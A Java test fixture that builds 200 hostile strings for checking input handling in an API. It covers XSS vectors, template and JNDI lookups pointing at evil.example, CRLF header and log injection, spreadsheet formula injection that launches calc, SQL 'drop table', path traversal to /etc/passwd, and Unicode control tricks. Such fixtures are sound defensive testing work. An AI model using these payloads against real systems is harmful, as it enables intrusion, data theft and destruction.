package channelcert.journey.api;

import java.util.List;
import java.util.stream.IntStream;

/** Two hundred texts that hurt wherever somebody takes a text for something else. */
final class HostileStrings {
  private static final List<String> SHAPES =
      List.of(
          "<script>window.hacked=%d</script>",
          "<img src=x onerror=window.hacked=%d>",
          "\"><svg onload=window.hacked=%d>",
          "' autofocus onfocus=window.hacked=%d x='",
          "</textarea><iframe srcdoc='<script>parent.hacked=%d</script>'></iframe>",
          "</title></td></table><script>window.hacked=%d</script>",
          "<style>*{background:url(//evil.example/%d)}</style>",
          "<base href=//evil.example/%d><form action=//evil.example>",
          "<meta http-equiv=refresh content='0;url=//evil.example/%d'>",
          "javascript:window.hacked=%d",
          "data:text/html,<script>window.hacked=%d</script>",
          "--><script>window.hacked=%d</script><!--",
          "]]><script>window.hacked=%d</script>",
          "${window.hacked=%d}#{7*7}",
          "{{constructor.constructor('window.hacked=%d')()}}",
          "@if(true)%d@endif<%%= 7*7 %%>",
          "${jndi:ldap://evil.example/%d}",
          "\\u003cscript\\u003ewindow.hacked=%d\\u003c/script\\u003e",
          "&lt;script&gt;window.hacked=%d&lt;/script&gt;",
          "one\r\n2027-01-01 00:00:00.000Z INFO channelcert.forged %d",
          "one\nBcc: evil%d@evil.example\n\nbody",
          "one\r\nSet-Cookie: evil=%d",
          "one\u0085two\u2028three\u2029%d",
          "\u001b[2J\u001b]0;title%d\u0007",
          "\u009b31mred%d",
          "\ud800 alone %d",
          "alone \udc00 %d",
          "\u202egnp.exe%d\u202c",
          "\u2066hidden%d",
          "nul\u0000inside%d",
          "=cmd|' /C calc'!A%d",
          "@SUM(1+%d)",
          "+1+%d",
          "-1-%d",
          "\t=1+%d",
          "\r=1+%d",
          "%%0d%%0a=HYPERLINK(\"//evil.example/%d\")",
          "'; drop table person; -- %d",
          "../../../../etc/passwd%d",
          "null");

  private HostileStrings() {}

  /** All of them, each at most 150 characters long. */
  static List<String> all() {
    return IntStream.range(0, 200)
        .mapToObj(number -> SHAPES.get(number % SHAPES.size()).formatted(number))
        .toList();
  }

  /** Those that can be stored at all. */
  static List<String> storable() {
    return all().stream().filter(text -> !isNoText(text)).toList();
  }

  /** Whether no UTF-8 and no database has room for it. */
  static boolean isNoText(String text) {
    return text.indexOf(0) >= 0
        || text.codePoints().anyMatch(each -> each >= 0xd800 && each < 0xe000);
  }

  /** As a JSON text in which no character stands that the fixture or a shell would change. */
  static String json(String text) {
    StringBuilder out = new StringBuilder("'");
    text.chars().forEach(each -> out.append(String.format("\\u%04x", each)));
    return out.append('\'').toString();
  }
}
